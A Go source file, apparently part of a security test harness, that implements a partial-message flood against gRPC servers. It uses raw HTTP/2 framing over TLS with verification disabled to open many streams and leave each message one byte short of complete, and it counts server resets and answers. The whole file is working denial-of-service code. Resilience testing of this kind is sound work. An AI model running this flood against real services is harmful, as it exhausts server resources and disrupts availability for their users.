package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// partialFlood is one anonymous TLS connection speaking raw HTTP/2 to a gRPC
// listener: it opens streams calls of method, each sending a gRPC message
// header that announces msgBytes and then as much of the body as the
// server's flow control admits, less one byte, so no message is ever
// complete. A gRPC client refuses to send beyond its own limits, hence the
// framer.
type partialFlood struct {
	conn *tls.Conn
	fr   *http2.Framer

	wmu sync.Mutex // serialises frame writes

	mu       sync.Mutex
	cond     *sync.Cond
	connWin  int64
	initWin  int64
	win      map[uint32]int64
	done     map[uint32]bool // reset by the server or answered
	closed   error
	resets   int
	answered int
}

// floodResult is what a flood achieved.
type floodResult struct {
	sent     int64 // body bytes written, beyond the message headers
	resets   int   // streams the server reset
	answered int   // streams the server answered (trailers) before the body was complete
}

func dialFlood(addr string) (*partialFlood, error) {
	d := &net.Dialer{Timeout: 5 * time.Second}
	conn, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // an anonymous attacker verifies nothing
	if err != nil {
		return nil, err
	}
	if conn.ConnectionState().NegotiatedProtocol != "h2" {
		conn.Close()
		return nil, errors.New("server did not negotiate h2")
	}
	f := &partialFlood{conn: conn, fr: http2.NewFramer(conn, conn), connWin: 65535, initWin: 65535, win: map[uint32]int64{}, done: map[uint32]bool{}}
	f.cond = sync.NewCond(&f.mu)
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		conn.Close()
		return nil, err
	}
	if err := f.fr.WriteSettings(); err != nil {
		conn.Close()
		return nil, err
	}
	go f.read()
	return f, nil
}

func (f *partialFlood) Close() error { return f.conn.Close() }

// read handles the server's frames: settings, window updates, resets,
// answers, pings and goaway.
func (f *partialFlood) read() {
	for {
		fr, err := f.fr.ReadFrame()
		f.mu.Lock()
		if err != nil {
			f.closed = err
			f.cond.Broadcast()
			f.mu.Unlock()
			return
		}
		switch x := fr.(type) {
		case *http2.SettingsFrame:
			if !x.IsAck() {
				if v, ok := x.Value(http2.SettingInitialWindowSize); ok {
					delta := int64(v) - f.initWin
					f.initWin = int64(v)
					for id := range f.win {
						f.win[id] += delta
					}
				}
				f.mu.Unlock()
				_ = f.write(func() error { return f.fr.WriteSettingsAck() })
				f.mu.Lock()
			}
		case *http2.WindowUpdateFrame:
			if x.StreamID == 0 {
				f.connWin += int64(x.Increment)
			} else {
				f.win[x.StreamID] += int64(x.Increment)
			}
		case *http2.RSTStreamFrame:
			if !f.done[x.StreamID] {
				f.done[x.StreamID] = true
				f.resets++
			}
		case *http2.HeadersFrame:
			if x.StreamEnded() && !f.done[x.StreamID] {
				f.done[x.StreamID] = true
				f.answered++
			}
		case *http2.PingFrame:
			if !x.IsAck() {
				data := x.Data
				f.mu.Unlock()
				_ = f.write(func() error { return f.fr.WritePing(true, data) })
				f.mu.Lock()
			}
		case *http2.GoAwayFrame:
			f.closed = fmt.Errorf("GOAWAY %v", x.ErrCode)
		}
		f.cond.Broadcast()
		f.mu.Unlock()
	}
}

func (f *partialFlood) write(fn func() error) error {
	f.wmu.Lock()
	defer f.wmu.Unlock()
	_ = f.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	return fn()
}

// run opens the streams and sends until every stream is done, has sent all
// but the last byte of its message, or the server grants no more window for
// idle.
func (f *partialFlood) run(ctx context.Context, method string, streams int, msgBytes int64, idle time.Duration) (floodResult, error) {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, kv := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", "nstance"},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		if err := enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]}); err != nil {
			return floodResult{}, err
		}
	}
	left := map[uint32]int64{}
	for i := range streams {
		id := uint32(2*i + 1)
		f.mu.Lock()
		f.win[id] += f.initWin
		f.mu.Unlock()
		err := f.write(func() error {
			return f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
		})
		if err != nil {
			return floodResult{}, fmt.Errorf("stream %d headers: %w", id, err)
		}
		left[id] = 5 + msgBytes - 1
	}
	chunk := make([]byte, 16<<10)
	var sent int64
	for {
		if err := ctx.Err(); err != nil {
			return floodResult{}, err
		}
		// Pick a stream that may send now, waiting for window up to idle.
		var id uint32
		var n int64
		f.mu.Lock()
		deadline := time.Now().Add(idle)
		for {
			id, n = 0, 0
			all := true
			for sid, l := range left {
				if l == 0 || f.done[sid] {
					continue
				}
				all = false
				if w := min(f.win[sid], f.connWin, l, int64(len(chunk))); w > 0 && (id == 0 || sid < id) {
					id, n = sid, w
				}
			}
			if all || id != 0 || f.closed != nil || time.Now().After(deadline) {
				break
			}
			waitCond(f.cond, time.Until(deadline))
		}
		if id == 0 {
			r := floodResult{sent: sent, resets: f.resets, answered: f.answered}
			f.mu.Unlock()
			return r, nil
		}
		f.win[id] -= n
		f.connWin -= n
		f.mu.Unlock()
		buf := chunk[:n]
		clear(buf[:min(5, n)])
		if left[id] == 5+msgBytes-1 && n >= 5 {
			// The stream's first bytes: the message header, uncompressed, msgBytes long.
			binary.BigEndian.PutUint32(buf[1:5], uint32(msgBytes))
		}
		if err := f.write(func() error { return f.fr.WriteData(id, false, buf) }); err != nil {
			f.mu.Lock()
			r := floodResult{sent: sent, resets: f.resets, answered: f.answered}
			f.mu.Unlock()
			return r, nil // the server closed the connection: it holds nothing more
		}
		left[id] -= n
		sent += n
	}
}

// waitCond waits on c (its lock held) for at most d.
func waitCond(c *sync.Cond, d time.Duration) {
	if d <= 0 {
		return
	}
	t := time.AfterFunc(d, c.Broadcast)
	c.Wait()
	t.Stop()
}
